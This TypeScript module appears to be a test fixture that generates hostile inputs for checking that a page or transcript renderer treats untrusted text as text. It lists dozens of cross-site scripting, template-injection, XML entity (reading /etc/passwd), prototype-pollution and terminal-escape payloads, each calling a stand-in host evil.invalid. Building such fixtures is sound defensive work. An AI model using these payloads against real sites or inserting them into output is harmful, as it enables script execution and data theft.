/** Does what no transcript may: sets a mark, opens a dialog, asks another host. */
const ACT = "window.hurt=1;alert(1);fetch('https://evil.invalid/x')";
const AWAY = "https://evil.invalid/x";
const char = (codePoint: number): string => String.fromCodePoint(codePoint);

/** Forms of attack on a page, each by its name: what a browser, a template, a terminal or our own script could take for more than text. */
const FORMS: Readonly<Record<string, string>> = {
  script: `<script>${ACT}</script>`,
  "script from elsewhere": `<script src="${AWAY}.js"></script>`,
  "end of a script": `</script><script>${ACT}</script>`,
  "end of a pre": `</pre></details></section><script>${ACT}</script>`,
  "end of a style": `</style><img src=x onerror="${ACT}">`,
  "end of a title": `</title><svg onload="${ACT}">`,
  "end of a textarea": `</textarea><script>${ACT}</script>`,
  image: `<img src="${AWAY}" onerror="${ACT}">`,
  "image without quotes": `<img/src=x/onerror=${ACT}>`,
  svg: `<svg onload="${ACT}"><use href="${AWAY}#a"/></svg>`,
  "svg animation": `<svg><animate onbegin="${ACT}" attributeName=x dur=1s>`,
  "svg with foreign markup": `<svg><foreignObject><iframe src="${AWAY}"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><img src=x onerror="${ACT}">`,
  frame: `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  object: `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  video: `<video><source onerror="${ACT}"></video><audio src=x onerror="${ACT}">`,
  "open details": `<details open ontoggle="${ACT}">`,
  focus: `<input autofocus onfocus="${ACT}"><a href=x onfocus="${ACT}" tabindex=1 autofocus>`,
  form: `<form action="${AWAY}"><button formaction="javascript:${ACT}">x</button></form>`,
  base: `<base href="https://evil.invalid/">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  "other policy": `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  link: `<link rel="stylesheet" href="${AWAY}.css"><link rel=prefetch href="${AWAY}">`,
  style: `<style>*{background:url(${AWAY})}</style>`,
  "style in quotes": `" style="background:url(${AWAY})" onmouseover="${ACT}`,
  "attribute in double quotes": `"><script>${ACT}</script>`,
  "attribute in single quotes": `'><script>${ACT}</script>`,
  "attribute by name": `" onpointerenter="${ACT}" autofocus onfocus="${ACT}" x="`,
  "javascript address": `javascript:${ACT}`,
  "javascript in a link": `[x](javascript:${ACT}) <a href="java&#10;script:${ACT}">x</a>`,
  "data address": `data:text/html,<script>${ACT}</script>`,
  "image in Markdown": `![x](${AWAY}) ![y][z]\n\n[z]: ${AWAY}`,
  comment: `<!-- --><script>${ACT}</script><!--`,
  "comment left open": "<!--",
  "declaration left open": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
  "cdata left open": `<![CDATA[<script>${ACT}</script>]]>`,
  "processing instruction": `<?xml-stylesheet href="${AWAY}"?><?php ${ACT} ?>`,
  "template in braces": `{{constructor.constructor("${ACT}")()}} \${${ACT}} <%= ${ACT} %> #{${ACT}}`,
  "half an entity": `&lt;script&gt;${ACT}&lt;/script&gt; &#x3c;script&#62;${ACT}`,
  "overlong letters": `\u00bcscript\u00be${ACT}\u00bc/script\u00be \uff1cscript\uff1e${ACT}`,
  "zero bytes": `<scr${char(0)}ipt>${ACT}</scr${char(0)}ipt><img src=x${char(0)} onerror=${ACT}>`,
  "hidden letters": `us${char(0x200b)}er${char(0x202e)}gnp.exe${char(0x2066)}${char(0xe0041)}${char(0xfeff)}`,
  "terminal sequences": `${char(0x1b)}[31mred${char(0x1b)}]8;;${AWAY}${char(7)}x${char(0x9b)}2J${char(8)}${char(0x7f)}`,
  "half a character": `${String.fromCharCode(0xd800)}<script>${ACT}</script>${String.fromCharCode(0xdfff)}`,
  "many marks": `a${char(0x0489).repeat(2_000)}`,
  "a long line": `<a href=${AWAY}>`.repeat(700),
  "names of elements": `<form id=log><input name=children><a id=constructor name=dataset>`,
  "names of properties": "__proto__ constructor toString hasOwnProperty",
  "events of a stream": `x\n\nevent: state\ndata: {"headline":"<img src=x onerror=${ACT}>"}\n\nid: 9\r\rretry: 1\u2028data: x`,
  "end of JSON": `"}],"last":"</script><script>${ACT}</script>","__proto__":{"hurt":1}//\\`,
};

/** Where in words that aren't ours such a form stands. */
const PLACES: Readonly<Record<string, (form: string, words: string) => string>> = {
  alone: (form) => form,
  "behind words": (form, words) => `${words}${form}`,
  "before words": (form, words) => `${form}${words}`,
  "on lines of its own, twice": (form, words) => `${words}\n\n${form}\n${form}\n\n${words}`,
};

export interface HostileWords {
  name: string;
  say(words: string): string;
}

/** Every form in every place. */
export function hostileWords(): HostileWords[] {
  return Object.entries(FORMS).flatMap(([form, text]) =>
    Object.entries(PLACES).map(([place, put]) => ({
      name: `${form}, ${place}`,
      say: (words: string) => put(text, words),
    })),
  );
}
